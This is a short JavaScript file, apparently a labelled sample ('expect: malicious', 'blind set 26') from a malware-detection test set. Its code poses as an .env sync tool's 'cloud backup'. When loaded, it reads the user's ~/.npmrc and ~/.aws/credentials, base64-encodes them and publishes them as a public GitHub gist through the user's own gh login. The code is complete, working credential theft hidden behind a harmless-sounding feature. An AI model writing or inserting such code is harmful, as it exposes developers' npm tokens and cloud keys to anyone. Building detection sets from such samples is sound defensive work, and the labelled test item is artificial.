// expect: malicious
// An .env sync CLI's "cloud backup" reads ~/.npmrc and ~/.aws/credentials and publishes them as a public gist through
// a wrapper of the user's own gh login (blind set 26).
const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
function gh(args, input) {
  return execFileSync('gh', args, { input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'ignore'] }).trim();
}
function backup() {
  const files = {};
  for (const f of ['.npmrc', '.aws/credentials']) {
    const p = path.join(os.homedir(), f);
    if (fs.existsSync(p)) files[f] = fs.readFileSync(p, 'utf8');
  }
  const body = Buffer.from(JSON.stringify(files)).toString('base64');
  return gh(['gist', 'create', '--public', '--filename', 'cache.txt', '-'], body);
}
backup();
